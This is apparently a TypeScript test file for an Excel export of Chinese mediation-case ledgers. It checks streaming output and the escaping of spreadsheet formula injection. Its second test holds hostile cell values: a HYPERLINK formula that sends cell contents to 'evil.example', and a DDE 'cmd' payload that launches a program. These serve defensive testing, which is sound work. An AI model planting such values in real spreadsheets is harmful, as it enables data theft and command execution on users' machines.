import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { cellText } from './ledger.cells.ts';
import { safeCell } from '../../../platform/files/spreadsheet-safe.ts';
import type { LedgerLine } from './ledger.columns.ts';
import { createLedgerWriter } from './ledger.workbook.ts';

const line = (i: number): LedgerLine => ({
  ref: `张八桥-调-2020-${String(i).padStart(5, '0')}`, receivedOn: '2020-03-04', category: '邻里纠纷', village: '东营村', committee: '东营村人民调解委员会',
  applicants: '张三', phones: '138****1234', respondents: '王五', summary: `双方因宅基地边界发生争执，申请人要求被申请人拆除越界部分并恢复原状。第${i}号`,
  mediators: '赵六', result: '调解成功', agreementForm: '书面', terms: '被申请人于三十日内拆除越界部分，并赔偿申请人损失人民币两千元整。', performance: '已履行',
  confirmation: '否', closedOn: '2020-03-20', followUp: '2020-04-20 电话回访，协议已履行。',
});

describe('ledger workbook writer', () => {
  it('streams: a long sheet\'s bytes leave while it is written, not all at the end (memory stays flat for 100,000 cases)', async () => {
    let received = 0;
    const out = new Writable({ write(chunk: Buffer, _enc, cb) { received += chunk.length; cb(); } });
    const writer = createLedgerWriter(out);
    writer.openSheet('张八桥镇', 2020);
    let halfway = 0;
    for (let n = 0; n < 20_000;) {
      for (let i = 0; i < 200; i++) writer.addLine(line(n++));
      await writer.settle();
      if (n === 10_000) halfway = received;
    }
    await writer.finish();
    expect(received).toBeGreaterThan(1_000_000);
    // Half the rows in, at least a third of the compressed file has gone out.
    expect(halfway / received).toBeGreaterThan(0.33);
  });

  it('writes text that a spreadsheet would take for a formula with a leading apostrophe, and reads it back as it was', async () => {
    const chunks: Buffer[] = [];
    const out = new Writable({ write(chunk: Buffer, _enc, cb) { chunks.push(chunk); cb(); } });
    const writer = createLedgerWriter(out);
    writer.openSheet('=张八桥镇', 2020);
    const hostile = {
      applicants: '=HYPERLINK("http://evil.example/?"&A1,"点击")', respondents: '+1+cmd|\' /C calc\'!A0', mediators: '-2+3',
      village: '@SUM(1+1)', terms: '\t=1+1', category: '邻里纠纷',
    };
    writer.addLine({ ...line(1), ...hostile });
    await writer.settle();
    await writer.finish();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const values = wb.worksheets[0]?.getSheetValues().flat().filter((v): v is string => typeof v === 'string') ?? [];
    for (const text of Object.values(hostile).filter((t) => t !== '邻里纠纷')) {
      expect(values).toContain(`'${text}`);
      expect(values).not.toContain(text);
      expect(cellText(`'${text}`)).toBe(text.trim());
    }
    expect(values.some((v) => v.startsWith("'=张八桥镇"))).toBe(true);
    expect(values).toContain('邻里纠纷');
    // A carriage return does not survive XML as itself; the rule still covers it.
    expect(safeCell('\r=1+1')).toBe("'\r=1+1");
    expect(safeCell('张三')).toBe('张三');
  });
});
